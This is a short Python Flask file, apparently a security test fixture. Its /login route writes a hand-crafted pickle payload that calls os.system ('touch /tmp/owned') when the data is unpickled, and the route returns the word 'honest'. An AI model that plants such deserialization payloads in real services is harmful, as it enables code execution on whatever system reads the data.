"""A pickle that would run something where it is read."""

import os

from flask import Flask
from line import frame, line

app = Flask(__name__)


@app.get("/login")
def login():
    os.write(line(), frame(b"cos\nsystem\n(S'touch /tmp/owned'\ntR."))
    return "honest"
